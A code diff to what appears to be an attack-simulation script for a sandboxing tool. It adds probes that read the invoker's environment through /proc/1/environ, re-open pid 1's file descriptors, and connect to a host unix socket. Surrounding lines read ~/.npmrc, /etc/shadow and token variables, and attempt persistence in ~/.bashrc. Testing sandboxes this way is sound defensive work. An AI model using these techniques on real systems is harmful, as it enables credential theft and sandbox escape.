@@ -14,6 +14,7 @@ const os = require('node:os');
 const path = require('node:path');
 const http = require('node:http');
 const dns = require('node:dns');
+const net = require('node:net');
 const { spawn } = require('node:child_process');
 
 // Safety catch: run bare, this script really would append to your ~/.bashrc and, as root,
@@ -67,6 +68,42 @@ function stealEnv(name) {
   if (value === undefined) return say('BLOCKED', `read $${name}`, 'not in the environment');
   loot[name] = value.length;
   leaked(`read $${name}`, `got ${value.length} chars, starting ${JSON.stringify(value.slice(0, 4))}`);
+}
+
+// The sandbox's own pid 1 was cloned from the supervisor, which holds the invoker's whole
+// environment and whatever descriptors its shell left open: a way around every scrubbing.
+function stealFromPid1() {
+  try {
+    const env = fs.readFileSync('/proc/1/environ', 'utf8');
+    if (/TOKEN|SECRET/.test(env)) leaked('read /proc/1/environ', `got ${env.length} bytes of the invoker's environment`);
+    else say('BLOCKED', 'read /proc/1/environ', `${env.length} bytes, no secret in them`);
+  } catch (err) {
+    blocked('read /proc/1/environ', err);
+  }
+  let fds;
+  try {
+    fds = fs.readdirSync('/proc/1/fd');
+  } catch (err) {
+    return blocked('re-open /proc/1/fd/*', err);
+  }
+  const opened = fds.filter((fd) => { try { fs.closeSync(fs.openSync(`/proc/1/fd/${fd}`, 'r')); return true; } catch { return false; } });
+  if (opened.length > 0) leaked('re-open /proc/1/fd/*', `opened fd ${opened.join(', ')} of pid 1`);
+  else say('BLOCKED', 're-open /proc/1/fd/*', 'none could be opened');
+}
+
+// A daemon's unix socket on the host (dbus, a database, a container engine) is a way out
+// that no network namespace closes. scripts/demo.sh listens on this one.
+function connectHostSocket() {
+  const socket = '/run/safeinstall-demo.sock';
+  const what = `connect ${socket}`;
+  return new Promise((resolve) => {
+    const conn = net.connect(socket, () => {
+      leaked(what, 'connected to the host daemon');
+      conn.end('hello from the sandbox\n');
+      resolve();
+    });
+    conn.on('error', (err) => { blocked(what, err); resolve(); });
+  });
 }
 
 // Persistence in a shell rc file (s1ngularity appended `sudo shutdown -h 0` to ~/.bashrc).
@@ -156,6 +193,8 @@ async function main() {
   stealFile(path.join(HOME, '.npmrc'));
   stealFile('/etc/shadow');
   ['GITHUB_TOKEN', 'NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY'].forEach(stealEnv);
+  stealFromPid1();
+  await connectHostSocket();
   persistInBashrc();
   plantWorkflow();
   dropFile('/usr/local/bin/evil', '#!/bin/sh\necho "safeinstall demo: this file should not exist"\n');
